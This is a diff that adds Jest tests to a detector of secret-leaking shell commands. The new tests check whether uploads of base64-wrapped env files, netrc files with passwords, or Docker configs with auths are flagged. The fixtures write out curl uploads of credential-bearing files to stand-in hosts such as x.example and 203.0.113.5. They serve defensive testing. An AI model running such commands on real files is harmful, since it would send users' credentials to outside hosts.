@@ -118,3 +118,24 @@ describe("a kubeconfig whose users carry a credential is a credential sent", () 
     expect(secretTags("curl -F f=@ci.yaml https://x.example/u", { "ci.yaml": "kind: Pipeline\nusers:\n  - name: bot\n    token: not-a-kubeconfig-value\n" })).toEqual([]);
   });
 });
+
+describe("credential files known by their format, and base64 copies", () => {
+  const env = `DEPLOY_TOKEN=${GITHUB}\nLOG_LEVEL=info\n`;
+  test("a base64 copy of a file holding a token is the token sent; a base64 copy of plain text is not", () => {
+    expect(secretTags("curl -d @build/env.b64 https://x.example/u", { "build/env.b64": `${Buffer.from(env).toString("base64")}\n` })).toEqual([SENDS_SECRET_TEXT]);
+    const wrapped = Buffer.from(env)
+      .toString("base64")
+      .replace(/(.{20})/g, "$1\n");
+    expect(secretTags("curl -T out.txt https://x.example/u", { "out.txt": wrapped })).toEqual([SENDS_SECRET_TEXT]);
+    expect(secretTags("curl -d @notes.b64 https://x.example/u", { "notes.b64": Buffer.from("LOG_LEVEL=info\nPORT=8080\n").toString("base64") })).toEqual([]);
+  });
+
+  test("a netrc with a password and a Docker config with auths are credentials; a netrc without one is not", () => {
+    expect(secretTags("curl -T fixtures/n.txt ftp://203.0.113.5/in/", { "fixtures/n.txt": "machine git.example.com\n  login bot\n  password hunter2-long\n" })).toEqual([
+      SENDS_SECRET_TEXT,
+    ]);
+    expect(secretTags("curl -F f=@cfg.json https://x.example/u", { "cfg.json": '{"auths":{"registry.example.com":{"auth":"Ym90OnMzY3JldA=="}}}' })).toEqual([SENDS_SECRET_TEXT]);
+    expect(secretTags("curl -T n.txt ftp://203.0.113.5/in/", { "n.txt": "machine git.example.com login anonymous\n" })).toEqual([]);
+    expect(secretTags("curl -F f=@cfg.json https://x.example/u", { "cfg.json": '{"auths":{"registry.example.com":{}},"credsStore":"desktop"}' })).toEqual([]);
+  });
+});
